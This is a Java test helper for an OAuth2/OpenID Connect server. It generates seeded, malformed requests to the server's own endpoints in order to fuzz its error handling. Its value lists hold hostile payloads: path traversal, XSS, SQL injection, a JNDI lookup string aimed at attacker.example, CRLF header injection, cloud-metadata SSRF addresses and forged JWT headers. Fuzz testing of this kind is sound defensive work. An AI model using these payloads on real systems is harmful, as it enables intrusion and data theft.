package dev.authserver;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Malformed requests to the protocol endpoints, drawn from a seeded {@link Random} so
 * that a run can be repeated: a plausible request for an endpoint, then one to three
 * things wrong with it (a random or oversized value, a duplicated parameter, invalid
 * percent-encoding or UTF-8, a wrong content type, JSON where a form belongs, a malformed
 * {@code Authorization} header, broken framing, the path spelled with percent-encoding,
 * ...).
 * <p>
 * Request line, headers and bodies are byte strings: every char is one byte on the wire
 * (ISO-8859-1), so invalid encodings reach the server exactly as written.
 */
final class HostileRequests {

	static final List<String> ENDPOINTS = List.of("authorize", "token", "introspection", "revocation", "userinfo",
			"jwks", "registration", "logout", "device_authorization", "device_verification", "par");

	private static final String FORM = "Content-Type: application/x-www-form-urlencoded";

	/** The endpoints a device calls, whose errors are JSON whatever it accepts. */
	private static final Set<String> JSON_ONLY_PATHS = Set.of("/oauth2/token", "/oauth2/device_authorization",
			"/oauth2/par");

	private static final String JSON = "Content-Type: application/json";

	private static final List<String> SPECIAL_VALUES = List.of("", " ", "null", "undefined", "true", "-1", "0",
			"99999999999999999999999999999", "1e309", "NaN", "../../../etc/passwd", "<script>alert(1)</script>",
			"' OR '1'='1", "${jndi:ldap://attacker.example/x}", "%s%n%x", "\\", "\"", "{}", "[]", "a\r\nX-Injected: 1",
			"http://attacker.example/cb", "javascript:alert(1)", "//attacker.example", "data:text/html,x",
			TestClients.WEB_REDIRECT_URI + "#fragment", TestClients.WEB_REDIRECT_URI + "?x=1",
			TestClients.WEB_REDIRECT_URI.toUpperCase(Locale.ROOT), TestClients.WEB_REDIRECT_URI + "/../x",
			TestClients.WEB_REDIRECT_URI.replace("/login/", "//login//"),
			"http://127.0.0.1:9999/login/oauth2/code/demo", "openid openid openid", "openid\tprofile", "S256", "plain",
			"code token", "none", "\u202Eevil", "\u0000", "\uFEFF", "\uD83D\uDE00", "e\u0301", "\u0130", "\u01C5");

	/**
	 * Sequences that are valid percent-encoding of invalid UTF-8: lone continuation,
	 * overlong, surrogate, 5-byte.
	 */
	private static final List<String> INVALID_UTF8 = List.of("%C3%28", "%FF", "%80", "%C0%AF", "%ED%A0%80",
			"%F8%88%80%80%80", "%E2%82", "%F4%90%80%80");

	private static final List<String> INVALID_PERCENT_ENCODING = List.of("%", "%4", "%zz", "%G0", "%%", "%u0041",
			"%%32%30", "%0");

	/**
	 * Unencoded bytes that have no place in a URL or a form: raw non-ASCII, controls,
	 * spaces, quotes.
	 */
	private static final List<String> RAW_BYTES = List.of("\u00ff", "\u0080", "\u00c3\u0028", "\u0000", "\u0007", " ",
			"\t", "\"", "<", "{", "|", "\u007f", "\u00e9");

	private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/json", "application/xml",
			"multipart/form-data; boundary=x", "application/x-www-form-urlencoded; charset=no-such-charset",
			"application/x-www-form-urlencoded; charset=UTF-16", "application/x-www-form-urlencoded; charset=\"",
			"application/x-www-form-urlencoded; charset=ISO-8859-1", "", "*/*", ";;;", "text/html; charset=UTF-8",
			"application/x-www-form-urlencoded;;;", "application/jwt", "\u00ff/\u00ff");

	private static final List<String> ACCEPTS = List.of("text/html", "application/json", "*/*", "garbage",
			"text/html;q=abc", "application/*", "", "text/html, application/json;q=0.1", "image/png",
			"text/html;level=1;q=0.5, */*;q=0.1, " + "x/y;q=0.2, ".repeat(50) + "a/b");

	private static final List<String> METHODS = List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD",
			"TRACE", "FOO", "get");

	private static final List<String> PATH_SUFFIXES = List.of("%zz", "%", "/", "//", "/..", "/../admin",
			";jsessionid=x", ";a=b", "%2F", "%2e%2e/", "%00", "/%C0%AE", "?", ".json", "%20", "/x/y/z", "%5C", "~");

	private final Random random;

	private final Fixtures fixtures;

	HostileRequests(Random random, Fixtures fixtures) {
		this.random = random;
		this.fixtures = fixtures;
	}

	/** A request to the endpoint with one to three things wrong with it. */
	HostileRequest next(String endpoint, String authority) {
		Draft draft = plausible(endpoint);
		int faults = 1 + this.random.nextInt(3);
		for (int i = 0; i < faults; i++) {
			spoil(draft);
		}
		return draft.build(authority);
	}

	private Draft plausible(String endpoint) {
		return switch (endpoint) {
			case "authorize" -> authorizationRequest();
			case "token" -> tokenRequest();
			case "introspection" -> tokenManagementRequest("/oauth2/introspect");
			case "revocation" -> tokenManagementRequest("/oauth2/revoke");
			case "userinfo" -> userInfoRequest();
			case "jwks" -> jwksRequest();
			case "registration" -> registrationRequest();
			case "logout" -> logoutRequest();
			case "device_authorization" -> deviceAuthorizationRequest();
			case "device_verification" -> deviceVerificationRequest();
			case "par" -> pushedAuthorizationRequest();
			default -> throw new IllegalArgumentException(endpoint);
		};
	}

	private Draft authorizationRequest() {
		boolean post = this.random.nextInt(5) == 0;
		Draft draft = new Draft("authorize", post ? "POST" : "GET", "/oauth2/authorize");
		List<String> parameters = post ? draft.formBody() : draft.query;
		String clientId = pick(TestClients.WEB_CLIENT_ID, TestClients.PUBLIC_CLIENT_ID, TestClients.MACHINE_CLIENT_ID,
				"no-such-client");
		parameters.add("response_type=code");
		parameters.add("client_id=" + clientId);
		parameters.add("redirect_uri=" + encode(clientId.equals(TestClients.PUBLIC_CLIENT_ID)
				? TestClients.PUBLIC_REDIRECT_URI : TestClients.WEB_REDIRECT_URI));
		parameters.add("scope=" + encode(pick("openid profile", "openid profile email message.read", "message.read")));
		parameters.add("state=" + encode(randomAlphanumeric(12)));
		parameters.add("nonce=" + encode(randomAlphanumeric(12)));
		parameters.add("code_challenge=" + randomAlphanumeric(43));
		parameters.add("code_challenge_method=S256");
		requestObjectOrUri(parameters);
		if (this.random.nextBoolean()) {
			draft.headers.add("Accept: text/html,application/xhtml+xml");
		}
		if (this.random.nextBoolean()) {
			draft.headers.add("Cookie: " + this.fixtures.sessionCookie());
		}
		return draft;
	}

	/**
	 * A pushed authorization request (RFC 9126) of the web client, authenticated with its
	 * secret or not at all, sometimes with a request object or a request URI.
	 */
	private Draft pushedAuthorizationRequest() {
		Draft draft = new Draft("par", "POST", "/oauth2/par");
		List<String> form = draft.formBody();
		form.add("response_type=code");
		form.add("client_id=" + TestClients.WEB_CLIENT_ID);
		form.add("redirect_uri=" + encode(TestClients.WEB_REDIRECT_URI));
		form.add("scope=" + encode(pick("openid profile", "message.read")));
		form.add("state=" + encode(randomAlphanumeric(12)));
		form.add("code_challenge=" + randomAlphanumeric(43));
		form.add("code_challenge_method=S256");
		requestObjectOrUri(form);
		if (this.random.nextInt(4) != 0) {
			draft.headers.add(basic(TestClients.WEB_CLIENT_ID, TestClients.WEB_CLIENT_SECRET));
		}
		return draft;
	}

	/** Sometimes a request object (RFC 9101) or a request URI, well formed or not. */
	private void requestObjectOrUri(List<String> parameters) {
		switch (this.random.nextInt(6)) {
			case 0 -> parameters.add("request=" + encode(jwtLike()));
			case 1 -> parameters.add("request=" + encode(pick("eyJhbGciOiJub25lIn0.e30.", "e30.e30.e30", "x.y.z.w.v")));
			case 2 -> parameters
				.add("request_uri=" + encode(pick("urn:ietf:params:oauth:request_uri:" + randomAlphanumeric(20),
						"urn:ietf:params:oauth:request_uri:x___" + randomAlphanumeric(5),
						"urn:ietf:params:oauth:request_uri:", "https://client.example/request.jwt")));
			default -> {
			}
		}
	}

	private Draft tokenRequest() {
		Draft draft = new Draft("token", "POST", "/oauth2/token");
		List<String> form = draft.formBody();
		switch (this.random.nextInt(5)) {
			case 0 -> {
				form.add("grant_type=client_credentials");
				form.add("scope=message.read");
				draft.headers.add(basic(TestClients.MACHINE_CLIENT_ID, TestClients.MACHINE_CLIENT_SECRET));
			}
			case 1 -> {
				form.add("grant_type=authorization_code");
				form.add("code=" + randomAlphanumeric(40));
				form.add("redirect_uri=" + encode(TestClients.WEB_REDIRECT_URI));
				form.add("code_verifier=" + randomAlphanumeric(43));
				draft.headers.add(basic(TestClients.WEB_CLIENT_ID, TestClients.WEB_CLIENT_SECRET));
			}
			case 2 -> {
				form.add("grant_type=refresh_token");
				form.add("refresh_token="
						+ encode(this.random.nextBoolean() ? this.fixtures.refreshToken() : randomAlphanumeric(60)));
				form.add("client_id=" + TestClients.WEB_CLIENT_ID);
				form.add("client_secret=" + encode(TestClients.WEB_CLIENT_SECRET));
			}
			case 3 -> {
				form.add("grant_type=authorization_code");
				form.add("code=" + randomAlphanumeric(40));
				form.add("redirect_uri=" + encode(TestClients.PUBLIC_REDIRECT_URI));
				form.add("client_id=" + TestClients.PUBLIC_CLIENT_ID);
				form.add("code_verifier=" + randomAlphanumeric(43));
			}
			default -> {
				form.add("grant_type="
						+ encode(pick("password", "implicit", "urn:ietf:params:oauth:grant-type:device_code",
								"urn:ietf:params:oauth:grant-type:token-exchange",
								"urn:ietf:params:oauth:grant-type:jwt-bearer", randomAlphanumeric(8))));
				form.add("assertion=" + encode(jwtLike()));
				form.add("subject_token=" + encode(this.fixtures.accessToken()));
				form.add("subject_token_type=urn:ietf:params:oauth:token-type:access_token");
				draft.headers.add(basic(TestClients.WEB_CLIENT_ID, TestClients.WEB_CLIENT_SECRET));
			}
		}
		return draft;
	}

	private Draft tokenManagementRequest(String path) {
		Draft draft = new Draft(path.equals("/oauth2/introspect") ? "introspection" : "revocation", "POST", path);
		List<String> form = draft.formBody();
		form.add("token=" + encode(
				pick(this.fixtures.accessToken(), this.fixtures.refreshToken(), jwtLike(), randomAlphanumeric(30))));
		if (this.random.nextBoolean()) {
			form.add("token_type_hint=" + pick("access_token", "refresh_token", "id_token", randomAlphanumeric(5)));
		}
		draft.headers.add(this.random.nextBoolean() ? basic(TestClients.WEB_CLIENT_ID, TestClients.WEB_CLIENT_SECRET)
				: basic(TestClients.MACHINE_CLIENT_ID, TestClients.MACHINE_CLIENT_SECRET));
		return draft;
	}

	private Draft userInfoRequest() {
		Draft draft = new Draft("userinfo", this.random.nextBoolean() ? "GET" : "POST", "/userinfo");
		draft.headers.add("Authorization: Bearer " + pick(this.fixtures.accessToken(), this.fixtures.idToken(),
				jwtLike(), tamperedSignature(this.fixtures.accessToken())));
		return draft;
	}

	private Draft jwksRequest() {
		Draft draft = new Draft("jwks", "GET", "/oauth2/jwks");
		if (this.random.nextBoolean()) {
			draft.query.add("kid=" + encode(randomAlphanumeric(8)));
		}
		if (this.random.nextBoolean()) {
			draft.headers.add("If-None-Match: "
					+ pick("\"" + randomAlphanumeric(20) + "\"", "*", "W/\"x\"", "\"", randomAlphanumeric(200)));
		}
		return draft;
	}

	private Draft registrationRequest() {
		int kind = this.random.nextInt(5);
		if (kind < 3) {
			Draft draft = new Draft("registration", "POST", "/oauth2/register");
			draft.json = clientMetadata();
			draft.headers.add(JSON);
			draft.headers.add("Authorization: Bearer "
					+ (this.random.nextBoolean() ? this.fixtures.initialAccessToken() : randomAlphanumeric(40)));
			return draft;
		}
		String clientId = this.random.nextBoolean() ? this.fixtures.registeredClientId() : encode(value());
		Draft draft = new Draft("registration", pick("GET", "PUT", "DELETE"), "/oauth2/register/" + clientId);
		if (draft.method.equals("PUT")) {
			draft.json = clientMetadata();
			draft.json.add("\"client_id\":\"" + clientId + "\"");
			draft.headers.add(JSON);
		}
		draft.headers.add("Authorization: Bearer "
				+ (this.random.nextBoolean() ? this.fixtures.registrationAccessToken() : randomAlphanumeric(40)));
		return draft;
	}

	private List<String> clientMetadata() {
		List<String> members = new ArrayList<>();
		members.add("\"redirect_uris\":[\"https://app.example.com/cb\"]");
		members.add("\"grant_types\":[\"authorization_code\",\"refresh_token\"]");
		members.add("\"response_types\":[\"code\"]");
		members.add(
				"\"token_endpoint_auth_method\":\"" + pick("client_secret_basic", "client_secret_post", "none") + "\"");
		members.add(
				"\"scope\":\""
						+ pick("openid profile", "openid profile", "message.read message.write admin openid", "admin",
								"openid " + randomAlphanumeric(8), "openid\\u0000profile", "openid \\\"quoted\\\"")
						+ "\"");
		members.add("\"client_name\":\""
				+ pick("Hostile " + randomAlphanumeric(6), "Hostile " + randomAlphanumeric(6), "Client demo",
						"evil\\u0000name", "line\\r\\nbreak", "\u202Emoc.live", "\u2066isolate\u2069", "x".repeat(300))
				+ "\"");
		if (this.random.nextInt(4) == 0) {
			members.set(1, "\"grant_types\":[\""
					+ pick("client_credentials", "password", "implicit", "urn:ietf:params:oauth:grant-type:jwt-bearer")
					+ "\"]");
		}
		if (this.random.nextInt(4) == 0) {
			members.add("\"token_endpoint_auth_method\":\"private_key_jwt\"");
			members.add("\"jwks_uri\":\"" + pick("https://[::127.0.0.1]/jwks", "https://[64:ff9b::7f00:1]/jwks",
					"https://[2002:7f00:1::]/jwks", "https://169.254.169.254/latest", "https://0x7f.1/jwks",
					"http://localhost/jwks", "file:///etc/passwd") + "\"");
		}
		if (this.random.nextInt(4) == 0) {
			certificateMetadata(members);
		}
		members.removeIf((member) -> this.random.nextInt(6) == 0);
		return members;
	}

	/**
	 * RFC 8705's metadata: a certificate method, one or more of its five values (well
	 * formed, malformed or hostile), and the binding flag of any JSON type.
	 */
	private void certificateMetadata(List<String> members) {
		members.add("\"token_endpoint_auth_method\":\""
				+ pick("tls_client_auth", "tls_client_auth", "self_signed_tls_client_auth", "client_secret_basic")
				+ "\"");
		List<String> fields = List.of("tls_client_auth_subject_dn", "tls_client_auth_san_dns",
				"tls_client_auth_san_uri", "tls_client_auth_san_ip", "tls_client_auth_san_email");
		for (int count = 1 + this.random.nextInt(2); count > 0; count--) {
			members.add("\"" + pick(fields) + "\":" + pick("\"CN=hostile, O=Example\"", "\"CN=a,,O=b\"",
					"\"CN=evil\\u0000name\"", "\"\u202ECN=moc.live\"", "\"hostile.example.com\"", "\"*.example.com\"",
					"\"spiffe://example.com/a\"", "\"javascript:alert(1)\"", "\"192.0.2.1\"", "\"::ffff:127.0.0.1\"",
					"\"fe80::1%eth0\"", "\"localhost\"", "\"a@example.com\"", "\"a@@b\"",
					"\"" + "x".repeat(1200) + "\"", "\"\"", "null", "42", "[\"CN=a\"]", "{\"cn\":\"a\"}"));
		}
		members.add("\"tls_client_certificate_bound_access_tokens\":"
				+ pick("true", "false", "\"yes\"", "1", "null", "[true]"));
		if (this.random.nextBoolean()) {
			members.add("\"jwks_uri\":\""
					+ pick("https://keys.example/jwks", "http://169.254.169.254/latest", "file:///etc/passwd") + "\"");
		}
	}

	/** A device asking for a code, as a public or a confidential client. */
	private Draft deviceAuthorizationRequest() {
		Draft draft = new Draft("device_authorization", "POST", "/oauth2/device_authorization");
		List<String> form = draft.formBody();
		switch (this.random.nextInt(3)) {
			case 0 -> form.add("client_id=" + pick("demo-device", "demo-public", "no-such-client"));
			case 1 -> draft.headers.add(basic(TestClients.WEB_CLIENT_ID, TestClients.WEB_CLIENT_SECRET));
			default -> draft.headers.add(basic(TestClients.MACHINE_CLIENT_ID, TestClients.MACHINE_CLIENT_SECRET));
		}
		if (this.random.nextBoolean()) {
			form.add("scope=" + encode(pick("message.read", "profile message.read", "openid", "admin")));
		}
		return draft;
	}

	/**
	 * A user entering a code at the verification page, or approving or denying, signed in
	 * or not.
	 */
	private Draft deviceVerificationRequest() {
		boolean post = this.random.nextBoolean();
		Draft draft = new Draft("device_verification", post ? "POST" : "GET", "/oauth2/device_verification");
		List<String> parameters = post ? draft.formBody() : draft.query;
		parameters.add("user_code=" + encode(pick("BCDF-GHJK", "bcdf ghjk", randomAlphanumeric(8), "")));
		if (post && this.random.nextBoolean()) {
			parameters.add("client_id=" + pick("demo-device", "no-such-client"));
			parameters.add("state=" + encode(randomAlphanumeric(20)));
			if (this.random.nextBoolean()) {
				parameters.add("scope=message.read");
			}
		}
		draft.headers.add("Accept: text/html,application/xhtml+xml");
		if (this.random.nextInt(4) != 0) {
			draft.headers.add("Cookie: " + this.fixtures.sessionCookie());
		}
		return draft;
	}

	private Draft logoutRequest() {
		boolean post = this.random.nextInt(4) == 0;
		Draft draft = new Draft("logout", post ? "POST" : "GET", "/connect/logout");
		List<String> parameters = post ? draft.formBody() : draft.query;
		parameters.add("id_token_hint=" + encode(pick(jwtLike(), tamperedSignature(this.fixtures.idToken()),
				this.fixtures.accessToken(), randomAlphanumeric(30))));
		parameters.add("post_logout_redirect_uri="
				+ encode(pick(TestClients.CLIENT_DEMO_URL + "/", "https://attacker.example/")));
		parameters.add("client_id=" + pick(TestClients.WEB_CLIENT_ID, "no-such-client"));
		parameters.add("state=" + randomAlphanumeric(8));
		if (this.random.nextBoolean()) {
			draft.headers.add("Accept: text/html");
		}
		if (this.random.nextBoolean()) {
			draft.headers.add("Cookie: " + this.fixtures.sessionCookie());
		}
		return draft;
	}

	/**
	 * Applies one fault that fits the draft; a fault that does not fit (a JSON fault to a
	 * form) is skipped.
	 */
	private void spoil(Draft draft) {
		for (int attempt = 0; attempt < 10; attempt++) {
			if (switch (this.random.nextInt(24)) {
				case 0, 1 -> replaceValue(draft, "random value", (value) -> encode(value()));
				case 2 -> replaceValue(draft, "oversized value", (value) -> "A".repeat(pick(3_000, 9_000, 70_000)));
				case 3, 4 -> duplicateParameter(draft);
				case 5 -> removeParameter(draft);
				case 6 ->
					addParameter(draft, "unknown parameter", encode(randomAlphanumeric(6)) + "=" + encode(value()));
				case 7 ->
					replaceValue(draft, "invalid percent-encoding", (value) -> value + pick(INVALID_PERCENT_ENCODING));
				case 8 -> replaceValue(draft, "invalid UTF-8", (value) -> value + pick(INVALID_UTF8));
				case 9 -> replaceValue(draft, "raw bytes", (value) -> value + pick(RAW_BYTES));
				case 10 -> wrongContentType(draft);
				case 11 -> jsonInsteadOfForm(draft);
				case 12, 13 -> malformedAuthorization(draft);
				case 14 -> wrongMethod(draft);
				case 15 -> manyParameters(draft);
				case 16 -> header(draft, "oversized header", "X-Filler: " + "x".repeat(9_000));
				case 17 -> this.random.nextBoolean() ? malformedPath(draft) : respelledPath(draft);
				case 18 -> header(draft, "odd Accept", "Accept: " + pick(ACCEPTS));
				case 19 -> brokenFraming(draft);
				case 20 -> header(draft, "malformed cookie",
						"Cookie: " + pick("SESSION=" + randomAlphanumeric(20), "SESSION=!!!", "SESSION=", "=;;;",
								"SESSION=" + "A".repeat(4_000), "a=b=c; ; SESSION", "SESSION=%zz",
								"SESSION=\u00ff\u00fe"));
				case 21 -> header(draft, "odd header",
						pick("X-Request-Id: " + "\u00ff".repeat(70), "X-Forwarded-For: " + utf8(value()),
								"X-Forwarded-Host: attacker.example", "Origin: null", "Range: bytes=0-0,-1",
								"Expect: 100-continue", "Content-Encoding: gzip", "If-Modified-Since: yesterday",
								"Accept-Language: " + utf8(value()), "Accept-Charset: no-such-charset"));
				case 22 -> wrongJsonType(draft);
				default -> malformedJson(draft);
			}) {
				return;
			}
		}
	}

	private boolean replaceValue(Draft draft, String fault, UnaryOperator<String> change) {
		List<String> parameters = draft.parameters();
		if (parameters.isEmpty()) {
			return false;
		}
		int index = this.random.nextInt(parameters.size());
		String parameter = parameters.get(index);
		int equals = parameter.indexOf('=');
		String name = (equals < 0) ? parameter : parameter.substring(0, equals);
		String value = (equals < 0) ? "" : parameter.substring(equals + 1);
		parameters.set(index, name + "=" + change.apply(value));
		draft.applied.add(fault + " (" + name + ")");
		return true;
	}

	private boolean duplicateParameter(Draft draft) {
		List<String> parameters = draft.parameters();
		if (parameters.isEmpty()) {
			return false;
		}
		String parameter = pick(parameters);
		String name = parameter.split("=", 2)[0];
		parameters.add(this.random.nextBoolean() ? parameter : name + "=" + encode(value()));
		draft.applied.add("duplicated parameter (" + name + ")");
		return true;
	}

	private boolean removeParameter(Draft draft) {
		List<String> parameters = draft.parameters();
		if (parameters.isEmpty()) {
			return false;
		}
		String removed = parameters.remove(this.random.nextInt(parameters.size()));
		draft.applied.add("missing parameter (" + removed.split("=", 2)[0] + ")");
		return true;
	}

	private boolean addParameter(Draft draft, String fault, String parameter) {
		draft.parameters().add(parameter);
		draft.applied.add(fault);
		return true;
	}

	private boolean manyParameters(Draft draft) {
		List<String> parameters = draft.parameters();
		int count = pick(101, 500, 2_000);
		for (int i = 0; i < count; i++) {
			parameters.add("p" + i + "=" + i);
		}
		draft.applied.add(count + " extra parameters");
		return true;
	}

	private boolean header(Draft draft, String fault, String header) {
		draft.headers.add(header);
		draft.applied.add(fault);
		return true;
	}

	private boolean wrongContentType(Draft draft) {
		draft.headers.removeIf(isHeader("Content-Type"));
		String contentType = pick(CONTENT_TYPES);
		if (this.random.nextInt(4) > 0) {
			draft.headers.add("Content-Type: " + contentType);
			draft.applied.add("content type " + contentType);
		}
		else {
			draft.applied.add("no content type");
		}
		return true;
	}

	private boolean jsonInsteadOfForm(Draft draft) {
		if (draft.form == null) {
			return false;
		}
		draft.body = "{" + draft.form.stream()
			.map((parameter) -> parameter.split("=", 2))
			.map((pair) -> "\"" + pair[0] + "\":\"" + ((pair.length > 1) ? pair[1] : "") + "\"")
			.collect(Collectors.joining(",")) + "}";
		draft.form = null;
		if (this.random.nextBoolean()) {
			draft.headers.removeIf(isHeader("Content-Type"));
			draft.headers.add(JSON);
			draft.applied.add("JSON instead of a form");
		}
		else {
			draft.applied.add("JSON labelled as a form");
		}
		return true;
	}

	private boolean malformedAuthorization(Draft draft) {
		String authorization = pick("Basic", "Basic ", "Basic !!!!", "Basic " + base64("no-colon"),
				"Basic " + base64(":"), "Basic " + base64(TestClients.WEB_CLIENT_ID + ":"),
				"Basic " + base64(":" + TestClients.WEB_CLIENT_SECRET),
				"Basic " + base64(TestClients.WEB_CLIENT_ID + ":wrong-secret"), "Basic " + base64("%zz:%zz"),
				"Basic " + base64(TestClients.WEB_CLIENT_ID + "%:" + TestClients.WEB_CLIENT_SECRET),
				"Basic " + Base64.getEncoder()
					.encodeToString(new byte[] { (byte) 0xff, (byte) 0xfe, ':', (byte) 0xc3 }),
				"Basic " + base64(TestClients.WEB_CLIENT_ID + ":" + TestClients.WEB_CLIENT_SECRET) + "=====",
				"basic " + base64(TestClients.WEB_CLIENT_ID + ":" + TestClients.WEB_CLIENT_SECRET),
				"Basic " + base64("a".repeat(3_000) + ":" + "b".repeat(2_000)), "Bearer", "Bearer ",
				"Bearer " + randomAlphanumeric(30), "Bearer a.b.c", "Bearer " + jwtLike(), "Bearer " + utf8(value()),
				"Bearer " + this.fixtures.accessToken() + " extra", "Bearer\t" + this.fixtures.accessToken(),
				"Digest username=\"x\", realm=\"y\"", "Negotiate YII=", "\u00ff\u00fe", "Basic\u0000x",
				"DPoP " + this.fixtures.accessToken());
		if (this.random.nextBoolean()) {
			draft.headers.removeIf(isHeader("Authorization"));
			draft.applied.add("malformed Authorization header");
		}
		else {
			draft.applied.add("second Authorization header");
		}
		draft.headers.add("Authorization: " + authorization);
		if (draft.form != null && this.random.nextInt(4) == 0) {
			draft.form.add("client_id=" + TestClients.WEB_CLIENT_ID);
			draft.form.add("client_secret=" + encode(TestClients.WEB_CLIENT_SECRET));
			draft.applied.add("credentials in the form too");
		}
		return true;
	}

	private boolean wrongMethod(Draft draft) {
		String method = pick(METHODS);
		draft.applied.add("method " + method + " instead of " + draft.method);
		draft.method = method;
		return true;
	}

	private boolean malformedPath(Draft draft) {
		String suffix = pick(PATH_SUFFIXES);
		draft.path = draft.path + suffix;
		draft.decodedPath = draft.decodedPath + suffix;
		draft.applied.add("path suffix " + suffix);
		return true;
	}

	/**
	 * The same path with one letter, digit or {@code -._~} percent-encoded, in upper or
	 * lower case hex: the same resource by RFC 3986 §2.3, which the framework serves.
	 */
	private boolean respelledPath(Draft draft) {
		List<Integer> unreserved = IntStream.range(0, draft.path.length())
			.filter((i) -> Character.isLetterOrDigit(draft.path.charAt(i)) || "-._~".indexOf(draft.path.charAt(i)) >= 0)
			.filter((i) -> draft.path.lastIndexOf('%', i) < i - 2)
			.boxed()
			.toList();
		if (unreserved.isEmpty()) {
			return false;
		}
		int at = pick(unreserved);
		String hex = String.format(this.random.nextBoolean() ? "%%%02X" : "%%%02x", (int) draft.path.charAt(at));
		draft.path = draft.path.substring(0, at) + hex + draft.path.substring(at + 1);
		draft.applied.add("path respelled");
		return true;
	}

	private boolean brokenFraming(Draft draft) {
		switch (this.random.nextInt(9)) {
			case 0 -> draft.host = false;
			case 1 -> draft.headers.add("Host: attacker.example");
			case 2 -> draft.headers.add("Content-Length: abc");
			case 3 -> draft.headers.add("Content-Length: -5");
			case 4 -> draft.headers.add("Header-Without-Colon");
			case 5 -> draft.headers.add(" folded: continuation");
			case 6 -> draft.headers.add("Bad Header Name: x");
			case 7 -> draft.version = "HTTP/1.0";
			default -> draft.absoluteTarget = true;
		}
		draft.applied.add("broken framing");
		return true;
	}

	private boolean wrongJsonType(Draft draft) {
		if (draft.json == null || draft.json.isEmpty()) {
			return false;
		}
		int index = this.random.nextInt(draft.json.size());
		String name = draft.json.get(index).split(":", 2)[0];
		String value = pick("1", "-1", "1e999", "123456789012345678901234567890", "true", "null", "{}", "{\"a\":[1]}",
				"[[]]", "[null]", "[1,2]", "\"\"", "\"" + "x".repeat(5_000) + "\"",
				"[" + "\"https://a.example/cb\",".repeat(1_500) + "\"x\"]", "\"\\ud800\"", "\"\u00ff\u00fe\"",
				"\"" + utf8(value().replace("\\", "\\\\").replace("\"", "\\\"")) + "\"",
				"[" + "[".repeat(2_000) + "]".repeat(2_000) + "]");
		draft.json.set(index, name + ":" + value);
		draft.applied.add("JSON member of the wrong type (" + name + ")");
		return true;
	}

	private boolean malformedJson(Draft draft) {
		if (draft.json == null) {
			return false;
		}
		String object = draft.jsonText();
		String body = switch (this.random.nextInt(11)) {
			case 0 -> object.substring(0, this.random.nextInt(object.length()));
			case 1 -> object + "}}garbage";
			case 2 -> object.replace('"', '\'');
			case 3 -> "\u00ef\u00bb\u00bf" + object;
			case 4 -> "/* comment */" + object;
			case 5 -> pick("[]", "\"x\"", "1", "null", "true", "[{}]", "", " ", "NaN");
			case 6 -> "[".repeat(20_000) + "]".repeat(20_000);
			case 7 -> "{" + String.join(",", draft.json) + "," + String.join(",", draft.json) + "}";
			case 8 -> "{\"a\":\"\\x\"}";
			case 9 ->
				"{" + IntStream.range(0, 3_000).mapToObj((i) -> "\"m" + i + "\":" + i).collect(Collectors.joining(","))
						+ "}";
			default -> new String(object.getBytes(StandardCharsets.UTF_16), StandardCharsets.ISO_8859_1);
		};
		draft.json = null;
		draft.body = body;
		draft.applied.add("malformed JSON");
		return true;
	}

	/** A random value, not yet percent-encoded. */
	private String value() {
		return switch (this.random.nextInt(7)) {
			case 0 -> randomText(0x20, 0x7e, 40);
			case 1 -> randomText(0x80, 0x2ffff, 20);
			case 2, 3 -> pick(SPECIAL_VALUES);
			case 4 -> jwtLike();
			case 5 -> randomAlphanumeric(300 + this.random.nextInt(2_700));
			default -> String.valueOf(this.random.nextLong());
		};
	}

	/**
	 * Three dot-separated base64url parts, as a JWT looks, with headers that try the
	 * usual tricks.
	 */
	private String jwtLike() {
		String header = pick("{\"alg\":\"none\"}", "{\"alg\":\"HS256\",\"typ\":\"JWT\"}",
				"{\"alg\":\"RS256\",\"kid\":\"../../etc/passwd\"}",
				"{\"alg\":\"RS256\",\"jku\":\"https://attacker.example/jwks\"}",
				"{\"alg\":\"RS256\",\"crit\":[\"x\"],\"x\":1}", "{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}", "not json",
				"{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"kid\":\"" + randomAlphanumeric(36) + "\"}");
		String claims = pick("{\"sub\":\"demo\",\"iss\":\"http://localhost\",\"exp\":9999999999}", "{}", "[]",
				"{\"exp\":\"tomorrow\"}", randomAlphanumeric(20));
		return base64Url(header) + "." + base64Url(claims) + "." + pick("", randomAlphanumeric(43), "!!!");
	}

	private String tamperedSignature(String jwt) {
		int lastDot = jwt.lastIndexOf('.');
		return jwt.substring(0, lastDot + 1) + randomAlphanumeric(342);
	}

	private String randomText(int lowest, int highest, int maxLength) {
		StringBuilder text = new StringBuilder();
		int length = this.random.nextInt(maxLength + 1);
		while (text.length() < length) {
			int codePoint = lowest + this.random.nextInt(highest - lowest + 1);
			if (Character.isValidCodePoint(codePoint) && !Character.isSurrogate((char) codePoint)) {
				text.appendCodePoint(codePoint);
			}
		}
		return text.toString();
	}

	private String randomAlphanumeric(int length) {
		String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
		StringBuilder text = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			text.append(alphabet.charAt(this.random.nextInt(alphabet.length())));
		}
		return text.toString();
	}

	@SafeVarargs
	private <T> T pick(T... choices) {
		return choices[this.random.nextInt(choices.length)];
	}

	private <T> T pick(List<T> choices) {
		return choices.get(this.random.nextInt(choices.size()));
	}

	/** UTF-8 as a byte string: each byte one char, as it goes on the wire unencoded. */
	private static String utf8(String value) {
		return new String(value.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
	}

	/** Percent-encoded UTF-8, as a byte string. */
	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

	private static String basic(String clientId, String secret) {
		return "Authorization: Basic " + base64(encode(clientId) + ":" + encode(secret));
	}

	private static String base64(String text) {
		return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	private static String base64Url(String text) {
		return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	private static Predicate<String> isHeader(String name) {
		return (header) -> header.regionMatches(true, 0, name + ":", 0, name.length() + 1);
	}

	/**
	 * What the requests may use to get past the first checks: a signed-in session and
	 * tokens of the test's own.
	 */
